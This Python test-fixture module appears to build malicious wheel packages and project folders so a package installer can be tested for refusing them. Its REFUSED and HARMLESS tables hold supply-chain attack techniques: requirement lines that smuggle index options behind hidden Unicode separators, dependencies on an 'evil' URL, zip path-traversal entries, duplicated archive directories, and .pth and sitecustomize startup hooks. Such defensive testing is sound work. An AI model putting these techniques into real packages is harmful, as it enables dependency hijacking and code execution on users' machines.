"""Folders of code whose packages try to bring what nobody should fetch, build or run.

Each makes a folder of a `Range` with a wheel `leaf`. `{url}` stands for a source package there.
"""

from __future__ import annotations

import io
import stat
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

from paceline_harness.packages.attack_range import Range, rewritten, write_sdist
from paceline_harness.packages.wheels import write_wheel

INFO = "leaf-1.0.dist-info"
FILE = "leaf-1.0-py3-none-any.whl"
_FIELDS = "Metadata-Version: 2.1\nName: leaf\nVersion: 1.0\n"
_NEEDS = "Requires-Dist: evil @ {url}\n"
Attack = Callable[[Range], Path]


def evil_url(target: Range) -> str:
    """Of the source package that nobody should ask for."""
    return target.evil.url.replace("/simple", "/files/evil-1.0.tar.gz")


def _requirements(text: str) -> Attack:
    def make(target: Range) -> Path:
        code = target.code(text.replace("{url}", evil_url(target)))
        write_wheel(code / "wheels", "leaf")
        return code

    return make


def _metadata(text: str) -> Attack:
    def make(target: Range) -> Path:
        code = target.code("leaf")
        content = {f"{INFO}/METADATA": text.replace("{url}", evil_url(target)).encode()}
        wheel = write_wheel(code / "wheels", "leaf")
        rewritten(wheel, lambda members: list((members | content).items()))
        return code

    return make


def _member(name: str, mode: int = stat.S_IFREG | 0o644, flags: int = 0) -> Attack:
    def make(target: Range) -> Path:
        code = target.code("leaf")
        with zipfile.ZipFile(write_wheel(code / "wheels", "leaf"), "a") as wheel:
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            wheel.writestr(info, "ran")
            info.flag_bits |= flags
        return code

    return make


def _bytes(change: Callable[[bytes, Range], bytes]) -> Attack:
    def make(target: Range) -> Path:
        code = target.code("leaf")
        wheel = write_wheel(code / "wheels", "leaf")
        wheel.write_bytes(change(wheel.read_bytes(), target))
        return code

    return make


def _with_another_end(content: bytes, target: Range) -> bytes:
    """The comment of the archive is one, with a path above."""
    del target
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("../../canary", "ran")
    return content[:-2] + struct.pack("<H", len(other.getvalue())) + other.getvalue()


def _with_another_name(content: bytes, target: Range) -> bytes:
    """A file is called otherwise before its content than in the list."""
    del target
    changed = io.BytesIO(content)
    with zipfile.ZipFile(changed, "a") as archive:
        archive.writestr("harmless.txt", "ran")
    return changed.getvalue().replace(b"harmless.txt", b"../../canary", 1)


def _source_package(content: bytes, target: Range) -> bytes:
    del content
    return (target.evil.folder / "evil-1.0.tar.gz").read_bytes()


def _page(content: bytes, target: Range) -> bytes:
    del content
    return f'<a href="{evil_url(target)}">leaf-1.0-py3-none-any.whl</a>'.encode()


def _zipped_source(target: Range) -> Path:
    code = target.code("leaf")
    (code / "wheels").mkdir()
    source = write_sdist(target.root, target.canary, "leaf")
    with tarfile.open(source) as archive, zipfile.ZipFile(code / "wheels" / FILE, "w") as wheel:
        for member in archive:
            file = archive.extractfile(member)
            assert file is not None
            wheel.writestr(member.name, file.read())
    return code


def _another_spelling(target: Range) -> Path:
    """A second wheel of the same package and version."""
    code = target.code("leaf")
    write_wheel(code / "wheels", "leaf")
    other = write_wheel(target.root / "other", "leaf", requires=(f"evil @ {evil_url(target)}",))
    other.rename(code / "wheels" / FILE.replace("leaf", "Leaf"))
    return code


REFUSED: dict[str, Attack] = {
    "option after a line separator": _requirements("leaf\u2028--index-url={url}"),
    "option after a next line": _requirements("leaf\x85-i {url}"),
    "option after a form feed": _requirements("leaf\x0c-e ."),
    "option after a mark of the byte order": _requirements("\ufeff--index-url={url}\nleaf"),
    "address on a joined line": _requirements("ev\\\nil @ {url}"),
    "marker of no sense": _requirements("leaf; os_name ~= 'x'"),
    "metadata, address without blanks": _metadata(_FIELDS + "Requires-Dist:evil@{url}\n"),
    "metadata, lines end with CR": _metadata((_FIELDS + _NEEDS).replace("\n", "\r")),
    "metadata, capitals": _metadata(_FIELDS + _NEEDS.upper().replace("{URL}", "{url}")),
    "metadata, encoded": _metadata(_FIELDS + "Content-Transfer-Encoding: base64\n" + _NEEDS),
    "metadata, an extra of no name": _metadata(
        _FIELDS + "Requires-Dist: evil @ {url}; extra == '\uff58'\n"
    ),
    "METADATA is a folder too": _member(f"{INFO}/METADATA/x"),
    "a second dist-info": _member("LEAF-1.0.dist-info/METADATA"),
    "encrypted": _member("encrypted.py", flags=1),
    "two ends": _bytes(_with_another_end),
    "two names of a file": _bytes(_with_another_name),
    "a source package": _bytes(_source_package),
    "a zipped source package": _zipped_source,
    "a page": _bytes(_page),
    "another spelling": _another_spelling,
}


def _beside(*files: str) -> Attack:
    """Files beside the wheel or the requirements that decide something for other programs."""

    def make(target: Range) -> Path:
        code = target.code("leaf")
        write_wheel(code / "wheels", "leaf")
        url = evil_url(target)
        for file in files:
            (code / file).parent.mkdir(parents=True, exist_ok=True)
            (code / file).write_text(
                CONTENTS[Path(file).name].format(url=url, canary=target.canary)
            )
        return code

    return make


CONTENTS = {
    "index.html": '<a href="{url}">leaf-9.0-py3-none-any.whl</a>',
    "leaf.html": '<a href="{url}">leaf-9.0.tar.gz</a>',
    "pip.conf": "[global]\nfind-links = {url}\nindex-url = {url}\n",
    "setup.cfg": "[easy_install]\nfind_links = {url}\n",
    "setup.py": "open({canary!r}, 'w')",
    "pyproject.toml": "[build-system]\nrequires = ['evil @ {url}']\n",
    "constraints.txt": "leaf @ {url}\n",
    ".netrc": "machine localhost login a password b\n",
    f"{FILE}.metadata": _FIELDS + _NEEDS,
    "sitecustomize.py": "open({canary!r}, 'w')",
    "leaf.pth": "import os; open({canary!r}, 'w')",
    "leaf.egg-link": "{url}\n",
}
HARMLESS: dict[str, Attack] = {
    "pages": _beside("wheels/index.html", "wheels/leaf.html", "wheels/leaf/index.html"),
    "configurations": _beside("pip.conf", "wheels/pip.conf", "setup.cfg", ".netrc"),
    "builds": _beside("setup.py", "pyproject.toml", "wheels/setup.py", "wheels/pyproject.toml"),
    "constraints": _beside("constraints.txt", "wheels/constraints.txt", f"wheels/{FILE}.metadata"),
    "starts": _beside("sitecustomize.py", "leaf.pth", "wheels/leaf.pth", "wheels/leaf.egg-link"),
    "field before a blank": _metadata(_FIELDS + _NEEDS.replace(":", " :", 1)),
    "parts of a message": _metadata(
        _FIELDS + "Content-Type: multipart/mixed; boundary=x\n\n--x\n" + _NEEDS + "\n--x--\n"
    ),
    "fields of setuptools": _metadata(
        _FIELDS + "Requires: evil @ {url}\nSetup-Requires-Dist: evil @ {url}\n"
    ),
    "text after a separator": _metadata(_FIELDS + "Summary: a\x1c" + _NEEDS),
}
"""What is installed without that anything of it counts."""
